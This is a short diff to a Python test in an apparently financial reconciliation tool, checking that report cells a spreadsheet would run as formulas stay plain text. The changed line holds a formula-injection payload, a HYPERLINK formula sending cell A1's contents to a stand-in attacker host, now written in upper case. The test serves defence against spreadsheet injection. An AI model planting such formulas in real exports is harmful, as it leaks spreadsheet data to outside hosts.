@@ -569,7 +569,8 @@ def test_report_cells_a_spreadsheet_would_run_as_formulas_stay_text():
     from recon.report import Report
     from tests.recon_support import AS_OF, new_payout, new_result
 
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    # Upper case without spaces: recon compares receipts so (see recon.frames.receipt_series).
+    formula = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&A1,"OPEN")'
     options = Options(as_of=AS_OF, since=AS_OF.replace(day=5), until=AS_OF)
     frames = Frames.from_records(  # a short payment whose result carries a hostile receipt
         payouts=[new_payout("p01", "1000.00", "completed", ocid="OC1", hour=20)],
